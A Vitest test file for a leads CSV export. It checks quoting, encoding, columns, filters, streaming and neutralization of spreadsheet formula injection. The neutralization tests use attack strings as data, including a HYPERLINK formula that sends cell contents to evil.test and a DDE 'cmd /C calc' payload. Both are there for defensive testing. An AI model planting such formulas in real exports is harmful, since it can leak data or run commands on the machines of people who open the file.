import { desc, sql } from "drizzle-orm";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { LeadFilter } from "../../app/features/admin/service";
import type { Db } from "../db/client";
import { formSubmissions } from "../db/schema";
import { databaseTargets } from "../testing/databases";
import { allPages, inboxDatabase, insertJob, insertLead } from "../testing/inbox";
import { csvField, csvLine, leadsCsv, neutralizeFormula } from "./csv";
import { listLeads } from "./leads";

afterEach(() => {
  vi.restoreAllMocks();
});

/**
 * RFC 4180, strictly as the export writes it: every field quoted, every record ended by CRLF.
 * Anything else (a bare field, a lone line feed between records) fails the test.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === "") {
      quoted = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else {
      throw new Error(`${JSON.stringify(c)} outside quotes at ${i}`);
    }
  }
  if (field || row.length || quoted) throw new Error("the last record does not end with CRLF");
  return rows;
}

async function exported(db: Db, filter: LeadFilter = {}) {
  const bytes = new Uint8Array(await new Response(leadsCsv(db, filter)).arrayBuffer());
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
  const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, ""));
  const records = rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
  return { bytes, text, header, rows, records };
}

/**
 * Counts the selects made on `db`. `settled()` resolves once every select made so far has its rows
 * and what the export does with them has run, through to any select that led to: a count read
 * then stays as it is until the reader reads again. (Instead of waiting a while and hoping the
 * database was done by then.)
 */
function watchSelects(db: Db) {
  const select = db.select.bind(db) as (...args: unknown[]) => object;
  const answers: Promise<unknown>[] = [];
  // A select is a chain of builder calls, run when it is awaited: the chain is followed to its `then`.
  const watch = (builder: object): object =>
    new Proxy(builder, {
      get(target, key) {
        const value: unknown = Reflect.get(target, key, target);
        if (typeof value !== "function") return value;
        return (...args: unknown[]) => {
          const result: unknown = value.apply(target, args);
          if (key === "then") answers.push(result as Promise<unknown>);
          else if (typeof result === "object" && result !== null) return watch(result);
          return result;
        };
      },
    });
  const calls = vi
    .spyOn(db, "select")
    .mockImplementation(((...args: unknown[]) => watch(select(...args))) as Db["select"]);
  async function settled() {
    let seen: number;
    do {
      seen = answers.length;
      await Promise.allSettled(answers);
      // The stream acts on the rows in promise callbacks: all of them have run before the next task.
      await new Promise((resolve) => setImmediate(resolve));
    } while (answers.length !== seen);
  }
  return { calls, settled };
}

/** The columns every export has, in this order (docs/operations.md lists them). */
const commonColumns = [
  "Lead ID",
  "Received (UTC)",
  "Type",
  "Name",
  "First name",
  "Last name",
  "Email",
  "Phone",
  "Organization",
  "Job title",
  "Message",
  "Verdict",
  "Held because",
  "State",
  "Handled (UTC)",
  "Delivery",
  "Note",
  "Source (utm_source)",
  "Medium (utm_medium)",
  "Campaign (utm_campaign)",
  "Term (utm_term)",
  "Content (utm_content)",
  "Referring site",
  "First page of the visit",
  "Form sent from",
];

describe("CSV cells", () => {
  it("neutralizes a formula: = + - @ tab and carriage return at the start", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(neutralizeFormula(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
    }
    expect(neutralizeFormula('=HYPERLINK("https://evil.test","x")')).toBe(
      '\'=HYPERLINK("https://evil.test","x")',
    );
  });

  it("leaves those characters alone anywhere else", () => {
    for (const value of ["a=b", "1+1", "x-y", "me@city.gov", "a\tb", "a\rb", " =1", "'=1", "", "Zoë"]) {
      expect(neutralizeFormula(value)).toBe(value);
    }
  });

  it("quotes every field and doubles quotes; commas and line breaks stay inside the quotes", () => {
    expect(csvField('He said "hi", then\nleft')).toBe('"He said ""hi"", then\nleft"');
    expect(csvField("")).toBe('""');
    expect(csvField('=1+1 "x"')).toBe('"\'=1+1 ""x"""');
    expect(csvLine(["a", "b,c", "d\r\ne"])).toBe('"a","b,c","d\r\ne"\r\n');
    expect(parseCsv(csvLine(["a", 'b "c", d', "e\nf", "-1"]))).toEqual([["a", 'b "c", d', "e\nf", "'-1"]]);
  });
});

describe.each(databaseTargets)("the CSV export on $name", (target) => {
  const state = inboxDatabase(target);
  const test = it.skipIf(target.skip);

  test("UTF-8 with a byte order mark, a header row, CRLF line ends", async () => {
    const { db } = state;
    await insertLead(db, {
      data: {
        firstName: "Zoë",
        lastName: "Ødegaard",
        email: "zoe@dover.gov",
        cityName: "Dover",
        message: "a\nb",
      },
    });
    const { bytes, text, header, records } = await exported(db);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header).toEqual([
      ...commonColumns,
      "City of interest",
      "Population",
      "Preferred time",
      "Subject",
      "Website",
      "Partnership type",
      "Company size",
      "Experience",
      "Municipal experience",
      "Government contracts",
      "Capabilities",
      "Target markets",
      "Partnership goals",
      "Expected annual revenue",
      "Accepted the terms",
      "Marketing consent",
    ]);
    expect(text.match(/\r\n/g)).toHaveLength(2);
    expect(text.endsWith('"\r\n')).toBe(true);
    expect(records[0]).toMatchObject({ "First name": "Zoë", "Last name": "Ødegaard", Message: "a\nb" });
  });

  test("one column per thing, whichever form asked for it: the name, the address, the organization", async () => {
    const { db } = state;
    const answers = {
      download_presentation: {
        firstName: "Mei",
        lastName: "Chen",
        email: "mei@dover.gov",
        company: "City of Dover",
        title: "Clerk",
        phone: "302 555 0100",
        notes: "For the council",
        cityOfInterest: "other",
      },
      pilot: {
        municipalityName: "Town of Milford",
        name: "Ada Lovelace",
        jobTitle: "Mayor",
        email: "ada@milford.gov",
        populationSize: "under-10k",
      },
      demo: {
        firstName: "Alan",
        lastName: "Turing",
        email: "alan@lewes.gov",
        phone: "302-555-0101",
        cityName: "Lewes",
        position: "Director",
        message: "Show us the assistant",
      },
      newsletter: { email: "news@smyrna.gov" },
      contact: {
        name: "Grace Hopper",
        email: "grace@newark.gov",
        municipality: "City of Newark",
        subject: "pricing",
        message: "How much?",
      },
      partner: {
        companyName: "Acme, Inc.",
        contactName: "Katherine Johnson",
        contactTitle: "CEO",
        email: "kj@acme.test",
        phone: "555-0102",
        additionalInfo: "We build kiosks",
      },
    } as const;
    for (const [type, data] of Object.entries(answers)) {
      await insertLead(db, { type: type as keyof typeof answers, data });
    }
    const { records } = await exported(db);
    const person = (type: string) => {
      const record = records.find((row) => row.Type === type)!;
      return [
        record.Name,
        record["First name"],
        record["Last name"],
        record.Email,
        record.Phone,
        record.Organization,
        record["Job title"],
        record.Message,
      ];
    };
    expect(person("download_presentation")).toEqual([
      "Mei Chen",
      "Mei",
      "Chen",
      "mei@dover.gov",
      "302 555 0100",
      "City of Dover",
      "Clerk",
      "For the council",
    ]);
    // A name typed in one field is the name, not split into a guessed first and last name.
    expect(person("pilot")).toEqual([
      "Ada Lovelace",
      "",
      "",
      "ada@milford.gov",
      "",
      "Town of Milford",
      "Mayor",
      "",
    ]);
    expect(person("demo")).toEqual([
      "Alan Turing",
      "Alan",
      "Turing",
      "alan@lewes.gov",
      "302-555-0101",
      "Lewes",
      "Director",
      "Show us the assistant",
    ]);
    expect(person("newsletter")).toEqual(["", "", "", "news@smyrna.gov", "", "", "", ""]);
    expect(person("contact")).toEqual([
      "Grace Hopper",
      "",
      "",
      "grace@newark.gov",
      "",
      "City of Newark",
      "",
      "How much?",
    ]);
    expect(person("partner")).toEqual([
      "Katherine Johnson",
      "",
      "",
      "kj@acme.test",
      "555-0102",
      "Acme, Inc.",
      "CEO",
      "We build kiosks",
    ]);
    // A form's own answers follow, by their labels.
    expect(records.find((row) => row.Type === "contact")?.Subject).toBe("Pricing");
  });

  test("a type's export has the inbox's columns and that form's fields only", async () => {
    const { db } = state;
    await insertLead(db, {
      type: "pilot",
      data: { municipalityName: "Dover", name: "Ada", jobTitle: "Mayor" },
    });
    const { header, records } = await exported(db, { type: "pilot" });
    // The same columns first as in every export: a CRM's import mapping fits each of them.
    expect(header).toEqual([...commonColumns, "Population"]);
    expect(records[0]).toMatchObject({
      Organization: "Dover",
      Name: "Ada",
      "Job title": "Mayor",
      Population: "",
    });
  });

  test("every value as the lead page shows it: options by their labels, yes and no, quotes and commas intact", async () => {
    const { db } = state;
    const demo = await insertLead(db, {
      at: "2026-03-02T10:15:30.123456Z",
      note: 'Called, said "later"',
      data: {
        firstName: "Ada",
        lastName: "Lovelace",
        email: "ada@dover.gov",
        cityName: "Dover",
        timeSlot: "morning",
        message: 'We have 120 shops, a "main street"\nand parking trouble.',
      },
    });
    await insertJob(db, demo, "failed");
    await insertLead(db, {
      type: "partner",
      handled: true,
      data: {
        companyName: "Acme, Inc.",
        contactName: "Grace Hopper",
        partnershipType: "strategic",
        companySize: "11-50",
        municipalExperience: true,
        governmentContracts: false,
      },
    });
    await insertLead(db, { type: "contact", data: { name: "Old form", subject: "retired-subject" } });
    await insertLead(db, { type: "download_presentation", data: { firstName: "Mei", title: "Clerk" } });
    const { records } = await exported(db);
    const byType = Object.fromEntries(records.map((record) => [record.Type, record]));
    expect(byType.demo).toMatchObject({
      "Lead ID": demo,
      "Received (UTC)": "2026-03-02 10:15:30",
      State: "new",
      "Handled (UTC)": "",
      Delivery: "failed",
      Note: 'Called, said "later"',
      Name: "Ada Lovelace",
      Organization: "Dover",
      "Preferred time": "Morning (9 AM-12 PM EST)",
      Message: 'We have 120 shops, a "main street"\nand parking trouble.',
      "Job title": "",
    });
    expect(byType.partner).toMatchObject({
      State: "handled",
      Delivery: "sent",
      Name: "Grace Hopper",
      Organization: "Acme, Inc.",
      "Partnership type": "Strategic Partner",
      "Company size": "11-50 employees",
      "Municipal experience": "Yes",
      "Government contracts": "No",
      "Accepted the terms": "",
    });
    const handled = byType.partner!["Handled (UTC)"]!;
    expect(handled).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    expect(Date.now() - Date.parse(`${handled.replace(" ", "T")}Z`)).toBeLessThan(60_000);
    // A value no option knows (a lead from an older form) is shown as it was stored.
    expect(byType.contact?.Subject).toBe("retired-subject");
    // Two forms' job titles, one column.
    expect(byType.download_presentation?.["Job title"]).toBe("Clerk");
  });

  test("neutralizes formulas at the start of any cell, and only there", async () => {
    const { db } = state;
    await insertLead(db, {
      note: "=1+1",
      data: {
        firstName: '=HYPERLINK("https://evil.test/?"&A1,"Click")',
        lastName: "+cmd|' /C calc'!A0",
        email: "@SUM(1+1)",
        cityName: "-2+3",
        position: "\tTAB",
        phone: "\r=1",
        message: "a=b, 1+1, x-y and me@city.gov",
      },
    });
    const { records } = await exported(db);
    expect(records[0]).toMatchObject({
      Note: "'=1+1",
      "First name": '\'=HYPERLINK("https://evil.test/?"&A1,"Click")',
      "Last name": "'+cmd|' /C calc'!A0",
      Email: "'@SUM(1+1)",
      Organization: "'-2+3",
      "Job title": "'\tTAB",
      Phone: "'\r=1",
      Message: "a=b, 1+1, x-y and me@city.gov",
    });
  });

  test("exports exactly the filtered leads, in the inbox's order", async () => {
    const { db } = state;
    const grace = {
      name: "Grace Hopper",
      email: "grace@navy.mil",
      municipality: "Arlington",
      subject: "other",
    };
    for (let i = 0; i < 12; i++) {
      await insertLead(db, {
        type: i % 3 === 0 ? "demo" : "contact",
        handled: i % 4 === 0,
        at: `2026-03-${String(1 + i).padStart(2, "0")}T12:00:00Z`,
        data: i % 2 === 0 ? grace : { ...grace, name: "Alan Turing", email: "alan@bletchley.uk" },
      });
    }
    const filters: LeadFilter[] = [
      {},
      { type: "contact" },
      { state: "new" },
      { from: "2026-03-03", to: "2026-03-08" },
      { q: "grace" },
      { type: "contact", state: "new", q: "navy", from: "2026-03-02" },
      { q: "nobody" },
    ];
    for (const filter of filters) {
      const { rows: listed } = await allPages(async (cursor) => {
        const page = await listLeads(db, filter, cursor, 5);
        return { rows: page.leads, next: page.next };
      });
      const { records } = await exported(db, filter);
      expect(
        records.map((record) => record["Lead ID"]),
        JSON.stringify(filter),
      ).toEqual(listed.map((lead) => lead.id));
    }
  });

  test("streams in batches, one query at a time as the reader pulls, never the whole table at once", async () => {
    const { db } = state;
    // 1,100 leads, three at each moment: the 500-lead batches end inside groups of equal times.
    await db.execute(sql`
      insert into form_submissions (type, data, idempotency_key, created_at)
      select 'newsletter', jsonb_build_object('email', 'reader' || i || '@city.gov'), 'key-' || i,
        timestamptz '2026-01-01 00:00:00+00' + (i / 3) * interval '1 minute'
      from generate_series(1, 1100) as i`);
    const { calls: queries, settled } = watchSelects(db);
    const reader = leadsCsv(db, {}).getReader();
    await settled();
    expect(queries).toHaveBeenCalledTimes(0);

    const chunks: string[] = [];
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    const read = async () => {
      const { done, value } = await reader.read();
      if (!done) chunks.push(decoder.decode(value));
      return done;
    };
    await read(); // the header
    await read(); // the first batch
    await settled();
    // One batch read ahead of the reader, no more.
    expect(queries).toHaveBeenCalledTimes(2);
    while (!(await read()));
    expect(queries).toHaveBeenCalledTimes(3);
    expect(chunks).toHaveLength(4);
    expect(chunks.slice(1).map((chunk) => chunk.match(/\r\n/g)?.length)).toEqual([500, 500, 100]);

    const [, ...rows] = parseCsv(chunks.join("").replace(/^\uFEFF/, ""));
    const newestFirst = await db
      .select({ id: formSubmissions.id })
      .from(formSubmissions)
      .orderBy(desc(formSubmissions.createdAt), desc(formSubmissions.id));
    expect(rows.map((row) => row[0])).toEqual(newestFirst.map((row) => row.id));
  });

  test("stops reading the database when the download is cancelled", async () => {
    const { db } = state;
    await db.execute(sql`
      insert into form_submissions (type, data, idempotency_key)
      select 'newsletter', jsonb_build_object('email', 'reader' || i || '@city.gov'), 'key-' || i
      from generate_series(1, 1100) as i`);
    const { calls: queries, settled } = watchSelects(db);
    const reader = leadsCsv(db, {}).getReader();
    await reader.read();
    await reader.read();
    await reader.cancel();
    const made = queries.mock.calls.length;
    await settled();
    expect(made).toBeLessThanOrEqual(2);
    expect(queries.mock.calls.length).toBe(made);
  });
});
